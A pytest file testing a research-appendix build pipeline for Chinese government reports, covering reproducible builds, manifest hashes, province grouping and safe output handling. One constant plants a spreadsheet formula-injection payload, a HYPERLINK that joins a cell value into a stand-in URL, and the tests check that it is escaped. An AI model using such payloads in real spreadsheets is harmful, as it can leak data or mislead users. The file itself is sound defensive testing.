"""A research appendix from one command: `make appendix`, run twice on a small mixed folder."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import subprocess

import nbformat
import pytest
from support import ROOT, SEEDS

from helpers.appendix import Appendix, spreadsheet_safe

CHOSEN = {  # four seeds, in two provinces: the groups
    "000_227b57bffbdecf9d.txt": "taicang-2019",
    "002_8bfca62b454dad5d.txt": "tianning-2024",
    "003_5834ccae6790da4b.txt": "zhenjiang-2013",
    "004_cb0d57f057b2aa38.txt": "jiaojiang-2023",
}
TRAP = '=HYPERLINK("http://example.com/"&A1,"点击查看报告")'  # an untrusted page title


def sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def read_csv(path) -> list[dict]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), f"{path.name}: no byte-order mark"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """The folder, and the appendix `make appendix` writes from it, built twice."""
    base = tmp_path_factory.mktemp("appendix")
    folder = base / "reports"
    folder.mkdir()
    for name in CHOSEN:
        shutil.copy(SEEDS / name, folder / name)
    (folder / "empty.txt").write_bytes(b"")  # the bad file
    with open(SEEDS / "manifest.csv", encoding="utf-8", newline="") as f:
        rows = [row for row in csv.DictReader(f) if row["file"] in CHOSEN]
    rows[0]["title"] = TRAP
    with open(folder / "manifest.csv", "w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    out = base / "appendix"

    def build() -> dict[str, bytes]:
        done = subprocess.run(
            ["make", "--no-print-directory", "appendix", f"CORPUS={folder}", f"OUT={out}",
             "GROUP_BY=province"],
            cwd=ROOT, capture_output=True, text=True, timeout=300,
        )  # fmt: skip
        assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-3000:]
        return {
            p.relative_to(out).as_posix(): p.read_bytes()
            for p in sorted(out.rglob("*"))
            if p.is_file()
        }

    first = build()
    second = build()
    return folder, out, first, second


def test_the_second_build_is_byte_identical(built):
    _, _, first, second = built
    assert sorted(first) == sorted(second)
    rebuilt = list(first)  # the executed notebook and its HTML too: no times, no random ids
    assert "research_workflow.ipynb" in rebuilt and "research_workflow.html" in rebuilt
    assert any(name.startswith("tables/") for name in rebuilt)
    assert any(name.startswith("figures/") for name in rebuilt)
    assert "MANIFEST.csv" in rebuilt and "README.md" in rebuilt
    for name in rebuilt:
        assert first[name] == second[name], f"{name} differs between two builds"


def test_the_executed_notebook_has_no_error_output(built):
    _, out, _, _ = built
    nb = nbformat.read(out / "research_workflow.ipynb", as_version=4)
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            assert output["output_type"] != "error", output.get("evalue")
            assert output.get("name") != "stderr", output.get("text")
    assert (out / "research_workflow.html").stat().st_size > 10_000


def test_the_bad_file_is_listed_and_the_groups_are_the_manifests(built):
    _, out, _, _ = built
    problems = read_csv(out / "tables" / "problems.csv")
    assert [row["file"] for row in problems] == ["empty.txt"]
    assert "empty" in problems[0]["reason"]
    reports = read_csv(out / "tables" / "reports.csv")
    assert sorted(row["id"] for row in reports) == sorted(CHOSEN.values())
    groups = {row["id"]: row["group"] for row in reports}
    assert groups == {
        "taicang-2019": "江苏省", "tianning-2024": "江苏省", "zhenjiang-2013": "江苏省",
        "jiaojiang-2023": "浙江省",
    }  # fmt: skip
    keyness = read_csv(out / "tables" / "keyness_by_group.csv")
    assert {row["group"] for row in keyness} == {"江苏省", "浙江省"}


def test_a_formula_in_a_title_is_written_as_text(built):
    _, out, _, _ = built
    titles = {row["id"]: row["title"] for row in read_csv(out / "tables" / "reports.csv")}
    assert titles["taicang-2019"] == "'" + TRAP


def test_the_manifest_records_inputs_data_and_parameters_with_true_hashes(built):
    folder, out, _, _ = built
    manifest = read_csv(out / "MANIFEST.csv")
    inputs = {row["name"]: row["sha256"] for row in manifest if row["kind"] == "input"}
    assert inputs == {(folder / name).as_posix(): sha256(folder / name) for name in CHOSEN}
    data = {row["name"]: row["sha256"] for row in manifest if row["kind"] == "data"}
    for name in ["governance_terms.csv", "stopwords_zh.txt", "officialese.csv", "themes.csv"]:
        assert data[f"helpers/data/{name}"] == sha256(ROOT / "helpers" / "data" / name)
    assert "jieba/dict.txt" in data and "opencc/TSCharacters.ocd2" in data
    parameters = {
        row["name"]: json.loads(row["value"]) for row in manifest if row["kind"] == "parameter"
    }
    assert parameters["group_by"] == "province" and parameters["corpus"] == [str(folder)]
    outputs = {row["name"]: row["sha256"] for row in manifest if row["kind"] == "output"}
    for name, digest in outputs.items():
        assert sha256(out / name) == digest
    assert {row["name"] for row in manifest if row["kind"] == "seed"} == {"random seed"}
    command = next(row["value"] for row in manifest if row["kind"] == "command")
    assert command.startswith("make appendix CORPUS=")


def test_an_appendix_never_overwrites_a_folder_of_yours(tmp_path):
    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
    with pytest.raises(FileExistsError, match="nothing is overwritten"):
        Appendix(tmp_path, parameters={})
    assert (tmp_path / "notes.txt").read_text(encoding="utf-8") == "mine"
    with pytest.raises(ValueError, match="not a usable file name"):
        Appendix(tmp_path / "new", parameters={}).table("../escape", None)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [("=1+1", "'=1+1"), ("+86 123", "'+86 123"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("行政复议", "行政复议"), (5, 5), (-5, -5)],
)  # fmt: skip
def test_spreadsheet_safe_cells(cell, shown):
    assert spreadsheet_safe(cell) == shown
